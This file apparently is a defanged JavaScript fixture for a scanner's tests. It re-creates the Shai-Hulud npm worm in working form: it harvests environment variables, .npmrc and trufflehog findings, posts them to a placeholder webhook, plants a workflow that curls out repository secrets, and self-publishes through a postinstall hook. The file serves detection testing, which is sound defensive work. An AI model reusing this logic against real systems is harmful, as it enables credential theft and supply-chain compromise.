// DEFANGED re-creation (Shai-Hulud npm worm, 2025-09) for Bulwark's scanner tests. Never run:
// main() returns at once unless an environment variable nobody sets says otherwise, hosts are
// .invalid and the webhook id is all zeros.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const WORKFLOW = `on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$(echo '\${{ toJSON(secrets) }}' | base64 -w0)" https://webhook.site/00000000-0000-0000-0000-000000000000
`;

function harvest() {
  const env = JSON.stringify(process.env);
  let npmrc = '';
  try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
  let found = '';
  try { found = execSync('trufflehog filesystem ' + os.homedir() + ' --json').toString(); } catch (e) {}
  return { env, npmrc, found };
}

function exfiltrate(data) {
  fetch('https://webhook.site/00000000-0000-0000-0000-000000000000', {
    method: 'POST',
    body: JSON.stringify(data),
  }).catch(() => {});
}

function plantWorkflow(repo) {
  fs.mkdirSync(path.join(repo, '.github/workflows'), { recursive: true });
  fs.writeFileSync(path.join(repo, '.github/workflows/shai-hulud-workflow.yml'), WORKFLOW);
}

function whoami(token, cb) {
  https.get({ hostname: 'registry.worm.invalid', path: '/-/whoami', headers: { authorization: 'Bearer ' + token } }, (r) => {
    let b = '';
    r.on('data', (c) => (b += c));
    r.on('end', () => cb(JSON.parse(b).username));
  });
}

function propagate(dir) {
  const pkgPath = path.join(dir, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pkgPath, 'utf8'));
  pkg.scripts = pkg.scripts || {};
  pkg.scripts.postinstall = 'node bundle.js';
  pkg.version = pkg.version.replace(/(\d+)$/, (m) => String(Number(m) + 1));
  fs.writeFileSync(pkgPath, JSON.stringify(pkg, null, 2));
  fs.copyFileSync(__filename, path.join(dir, 'bundle.js'));
  execSync('npm publish ' + dir);
}

function main() {
  if (process.env.BULWARK_DEFANGED_FIXTURE_NEVER_SET !== 'run') return;
  const loot = harvest();
  exfiltrate(loot);
  plantWorkflow(process.cwd());
  whoami(process.env.NPM_TOKEN, (user) => {
    https.get('https://registry.worm.invalid/-/v1/search?text=maintainer:' + user, () => {
      propagate(os.tmpdir() + '/shai-hulud-package');
    });
  });
}
main();
